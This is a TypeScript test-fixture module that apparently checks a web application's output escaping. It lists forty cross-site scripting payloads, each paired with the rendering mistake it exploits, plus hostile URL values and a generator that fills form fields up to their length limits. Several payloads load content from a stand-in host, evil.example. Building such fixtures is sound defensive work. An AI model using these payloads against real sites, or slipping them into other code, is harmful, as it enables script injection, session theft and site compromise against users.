/**
 * Forty texts that do something where a page takes them for markup, each with the mistake that would let it;
 * and words made of them for every field, each as long as the field may be.
 */

/** What a page would hold if it made the mistake that a text waits for. */
type Mistake = (text: string) => string

const asMarkup: Mistake = (text) => `<p>${text}</p>`
const inQuotes: Mistake = (text) => `<input value="${text}">`
const inSingleQuotes: Mistake = (text) => `<input value='${text}'>`
const withoutQuotes: Mistake = (text) => `<input value=${text}>`
const inside =
  (element: string): Mistake =>
  (text) =>
    `<${element}>${text}</${element}>`
const inComment: Mistake = (text) => `<!-- ${text} -->`
const asAddress: Mistake = (text) => `<a href="${text}">x</a>`
const inScript: Mistake = (text) => `<script>const text = "${text}"</script>`
const decoded: Mistake = (text) =>
  asMarkup(text.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&#60;', '<'))
const unescapedAddress: Mistake = (text) => asMarkup(decodeURIComponent(text))
const asJson: Mistake = (text) => asMarkup(JSON.parse(`"${text}"`) as string)
const folded: Mistake = (text) => asMarkup(text.normalize('NFKC'))

/** `x(1)` tells the test that it ran; `evil.example` that something was fetched. */
export const PAYLOADS: readonly (readonly [text: string, mistake: Mistake])[] = [
  ['<script>x(1)</script>', asMarkup],
  ['<ScRiPt >x(1)</sCrIpT >', asMarkup],
  ['<script src=//evil.example/a></script>', asMarkup],
  ['<img src=x onerror=x(1)>', asMarkup],
  ['<svg/onload=x(1)//', asMarkup],
  ['<svg onload=x(1)>', asMarkup],
  ['<svg><a href=javascript:x(1)><text>a', asMarkup],
  ['<svg><animate onbegin=x(1) attributeName=x>', asMarkup],
  ['<body onpageshow=x(1)>', asMarkup],
  ['<details open ontoggle=x(1)>', asMarkup],
  ['<input autofocus onfocus=x(1)>', asMarkup],
  ['<video><source onerror=x(1)>', asMarkup],
  ['<audio src=x onerror=x(1)>', asMarkup],
  ['<iframe srcdoc="<script>x(1)</script>">', asMarkup],
  ['<iframe src=javascript:x(1)>', asMarkup],
  ['<object data=//evil.example/b>', asMarkup],
  ['<embed src=//evil.example/c>', asMarkup],
  ['<style>@import "//evil.example/d"</style>', asMarkup],
  ['<link rel=stylesheet href=//evil.example/e>', asMarkup],
  ['<meta http-equiv=refresh content=0;//evil.example>', asMarkup],
  ['<base href=//evil.example/f/>', asMarkup],
  ['<form action=//evil.example/g><button>Go on', asMarkup],
  ['<a href=javascript:x(1)>Open</a>', asMarkup],
  ['<a href="java&#9;script:x(1)">Open</a>', asMarkup],
  ['<math><mtext><table><mglyph><style><img src=x onerror=x(1)>', asMarkup],
  ['<scr<script>ipt>x(1)</scr</script>ipt>', (text) => asMarkup(text.replace(/<script>|<\/script>/g, ''))],
  ['"><img src=x onerror=x(1)>', inQuotes],
  ['" autofocus onfocus=x(1) a="', inQuotes],
  ["' autofocus onfocus=x(1) a='", inSingleQuotes],
  ['a autofocus onfocus=x(1)', withoutQuotes],
  ['</textarea><svg onload=x(1)>', inside('textarea')],
  ['</title><svg onload=x(1)>', inside('title')],
  ['</option></select><svg onload=x(1)>', inside('select')],
  ['--><svg onload=x(1)>', inComment],
  ['";x(1)//', inScript],
  ['javascript:x(1)', asAddress],
  ['&lt;img src=x onerror=x(1)&gt;', decoded],
  ['%3Csvg%20onload=x(1)%3E', unescapedAddress],
  ['\\u003csvg onload=x(1)\\u003e', asJson],
  ['＜svg onload=x(1)＞', folded],
]

/** Those that wait for a place where an address is expected, and stand there alone. */
export const ADDRESSES = [
  'javascript:x(1)',
  'JaVaScRiPt:x(1)//https://trust.example',
  'data:text/html,<script>x(1)</script>',
  'vbscript:x(1)',
  'https://trust.example/"onmouseover="x(1)',
  'https://trust.example/?<script>x(1)</script>',
] as const

/** Longest text of a field, where it is shorter than all forty together. */
const LONGEST: Readonly<Record<string, number>> = {
  'evidence.title': 200,
  'evidence.owner': 200,
  'assignment.note': 500,
  'sign_off.details': 120,
  'sign_off_mark.word': 200,
  'shared_view.body': 120,
  'shared_view.purpose': 500,
  'account.name': 100,
  'shared_view.known_as': 100,
  'period.name': 60,
  'import.name': 130,
  'import.cohort': 60,
  'planned_action.title': 300,
  'pack.title': 120,
  'pack.reading.meeting': 120,
  'pack.reading.item': 120,
  'pack.reading.presented': 120,
  'planned_action.owner_name': 120,
  'row_statement.stated_by': 120,
  'risk_entry.value.title': 300,
  'risk_entry.value.owner': 120,
  // A page shows so many letters of a word that it asks about.
  'tool_export.found.word': 100,
  'tool_export.found.unknown': 43,
}
const ADDRESS_FIELDS = ['evidence.place', 'answer.value.evidence', 'register_row.evidence']

/** A word for each call, which begins where the last one of its field ended; and all that were given, by field. */
export function newWords() {
  const given = new Map<string, string[]>()
  const nextOf = new Map<string, number>()
  const word = (field: string): string => {
    const before = given.get(field) ?? []
    given.set(field, before)
    const text =
      ADDRESS_FIELDS.includes(field) && before.length % 2 === 0
        ? (ADDRESSES[(before.length / 2) % ADDRESSES.length] ?? '')
        : forty(field)
    before.push(text)
    return text
  }
  const forty = (field: string): string => {
    const longest = LONGEST[field] ?? 2000
    const first = nextOf.get(field) ?? 0
    let text = `${field} ${String(given.get(field)?.length)}`
    let count = 0
    for (; count < PAYLOADS.length; count++) {
      const more = `${text} ${PAYLOADS[(first + count) % PAYLOADS.length]?.[0] ?? ''}`
      if (more.length > longest) break
      text = more
    }
    nextOf.set(field, first + count)
    return text
  }
  return { word, given }
}
